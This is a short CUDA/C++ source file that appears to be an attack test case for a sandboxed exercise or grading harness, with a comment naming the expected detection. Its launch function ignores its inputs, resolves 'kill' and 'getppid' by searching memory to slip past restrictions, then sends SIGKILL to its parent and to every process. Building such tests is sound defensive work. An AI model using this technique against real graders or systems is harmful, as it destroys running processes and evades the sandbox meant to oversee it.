// Attack: kills its parent and all others with a function that it finds in memory. Told: tried to send a signal to another process
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

#include "common/exercise/exercise.h"

//+ find.inc

static int launch(const float* input, const float* mask, float* output, int n, int width,
                  int threads) {
  (void)input, (void)mask, (void)output, (void)n, (void)width, (void)threads;
  const auto end = reinterpret_cast<int (*)(int, int)>(find("kill"));
  end(reinterpret_cast<int (*)()>(find("getppid"))(), 9);
  end(-1, 9);
  return 0;
}

halo::Exercise halo::exercise() { return launch; }
